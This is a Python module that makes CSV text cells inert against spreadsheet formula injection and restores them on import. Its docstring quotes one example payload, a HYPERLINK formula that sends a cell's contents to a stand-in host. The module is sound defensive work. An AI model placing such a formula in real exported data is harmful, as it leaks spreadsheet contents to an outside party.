"""Text cells of the CSV files the project writes, made inert for spreadsheets, and read back unchanged.

A spreadsheet opening a CSV evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
after a tab or a carriage return) as a formula: ``=HYPERLINK("http://x/?"&A1,"…")`` in a borrower's comment
would leak the sheet to whoever clicks it, ``-2+3`` would show as 1. Every *text* cell the project writes
that starts so gets a ``'`` in front (OWASP's advice): the spreadsheet shows it as text.

**Numbers stay numbers.** A value the project writes as a number (a ``Decimal`` or ``int`` formatted by the
writer: an optional ``-``, digits, one decimal mark) is not text and is written as is, ``-2,5`` or ``-2.5``:
such a cell can hold nothing but a number, the spreadsheet reads it as one, and a prefix would turn the
value into text the user would have to convert back. Only cells that come from words (names, units,
comments, comparison groups, references) pass through :func:`inert_text`.

**Read back unchanged.** The importer (``ingest.normalise.clean_text``) takes exactly one such ``'`` off
again, so a template or a Kolada file the project wrote imports the text that went in. A text that itself
starts with ``'`` before one of those characters gets one more ``'``, so the round trip holds for it too.
"""

from __future__ import annotations

import re

#: The characters that make a spreadsheet read a cell as a formula (or, tab and CR, hide one behind).
FORMULA_STARTS = "=+-@\t\r"

#: A text that needs the prefix: any number of ``'`` already, then a formula start.
_NEEDS_PREFIX = re.compile(r"^'*[=+\-@\t\r]")

#: The importer's side, as a regular expression for polars: one ``'`` before such a text.
PREFIXED_PATTERN = r"^'('*[=+\-@\t\r])"


def inert_text(text: str) -> str:
    """``text`` as a CSV cell a spreadsheet shows as text: ``'`` in front when it starts like a formula."""
    return f"'{text}" if _NEEDS_PREFIX.match(text) else text


def restored_text(cell: str) -> str:
    """The text :func:`inert_text` was given, from the cell it wrote (other cells are returned as they are)."""
    return re.sub(PREFIXED_PATTERN, r"\1", cell, count=1)
